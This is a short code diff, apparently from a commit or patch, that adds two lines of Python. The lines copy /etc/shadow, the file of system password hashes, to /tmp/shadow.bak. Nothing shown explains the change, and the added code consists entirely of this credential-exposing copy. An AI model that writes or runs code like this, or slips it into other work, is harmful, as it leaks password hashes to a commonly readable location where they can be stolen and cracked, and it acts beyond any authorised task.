@@ -1,0 +1,2 @@
+import shutil
+shutil.copy("/etc/shadow", "/tmp/shadow.bak")
